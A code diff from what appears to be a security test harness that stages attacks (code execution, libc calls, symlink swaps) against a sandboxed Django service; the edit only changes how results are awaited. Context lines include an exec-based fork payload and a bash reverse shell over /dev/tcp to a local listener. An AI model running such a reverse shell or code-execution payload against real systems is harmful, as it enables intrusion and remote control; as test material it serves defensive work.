@@ -256,7 +256,7 @@ class DjangoSite(stage.Service):
         marker = self.marker("fork")
         code = stage.FORK_AND_EXEC.format(line=f"id > {marker}")
         self.evaluates(f"exec({code!r})")
-        return stage.wait_for(marker.exists, 1)
+        return self.happens(marker.exists)
 
     @stage.attack("ctypes")
     def formula_calls_libc(self):
@@ -277,7 +277,7 @@ class DjangoSite(stage.Service):
             self.explodes(subprocess.Popen, [
                 "bash", "-c", "exec bash -i </dev/tcp/127.0.0.1/"
                 f"{self.port('shell')} >&0 2>&0"])
-            return stage.wait_for(lambda: b"got-42" in attacker.heard, 1.5)
+            return self.happens(lambda: b"got-42" in attacker.heard)
 
     @stage.attack("symlink swap", fresh=True)
     def photo_became_a_link(self):
